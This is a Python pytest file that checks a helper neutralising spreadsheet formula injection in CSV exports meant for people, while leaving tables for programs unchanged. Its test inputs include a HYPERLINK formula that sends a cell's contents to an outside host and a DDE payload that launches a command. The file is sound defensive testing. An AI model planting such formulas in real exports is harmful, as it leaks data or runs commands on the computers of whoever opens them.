"""Tables that a person opens in a spreadsheet hold no formula; tables that programs read hold names as they are."""

from __future__ import annotations

import csv

import pytest

from LiverAILib.atomic_write import atomic_csv
from LiverAILib.spreadsheet_text import spreadsheet_text


@pytest.mark.parametrize(
    "cell",
    [
        '=HYPERLINK("http://x.org?"&A1)',
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)",
        "\t=1+1",
        "\r=1+1",
        "=1",
        "-x",
    ],
)
def test_a_formula_becomes_text(cell):
    assert spreadsheet_text(cell) == f"'{cell}"


@pytest.mark.parametrize(
    "cell", ["", "case 1", "-12.5", "+3", "-1e-5", "-0.1 (-0.2 to 0.1)", "a=b", "0.5", -3, 2.5, None, "-0.2 \u2013 0.1"]
)
def test_numbers_and_names_stay_as_they_are(cell):
    assert spreadsheet_text(cell) is cell


def test_tables_for_people_are_guarded_and_those_for_programs_are_not(tmp_path):
    for read_back, expected in ((False, "'=A1"), (True, "=A1")):
        atomic_csv(tmp_path / "t.csv", ("case_id", "=x"), [("=A1", "-3.5")], read_back=read_back)
        with (tmp_path / "t.csv").open(newline="") as stream:
            columns, row = csv.reader(stream)
        assert row == [expected, "-3.5"]
        assert columns == ["case_id", "=x" if read_back else "'=x"]
